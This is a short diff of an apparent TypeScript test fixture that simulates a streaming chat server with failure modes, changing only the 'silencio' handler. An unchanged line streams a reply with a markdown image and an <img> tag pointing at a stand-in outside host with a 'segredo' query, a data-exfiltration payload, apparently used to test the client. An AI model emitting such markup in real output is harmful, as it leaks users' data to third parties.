@@ -105,7 +105,7 @@ const ENTREGAS: Readonly<Record<Exclude<Falha, 'repete'>, Entrega>> = {
 			resposta,
 			`${escreverFatia('![x](https://fora.exemplo/?q=segredo) <img src=https://fora.exemplo/x> [clique](https://fora.exemplo/) Fim [7].')}data: [DONE]\n\n`,
 		),
-	silencio: (resposta) => void resposta.writeHead(200, SSE).flushHeaders(),
+	silencio: (resposta) => resposta.writeHead(200, SSE).flushHeaders(),
 	lento: demorar,
 }
 
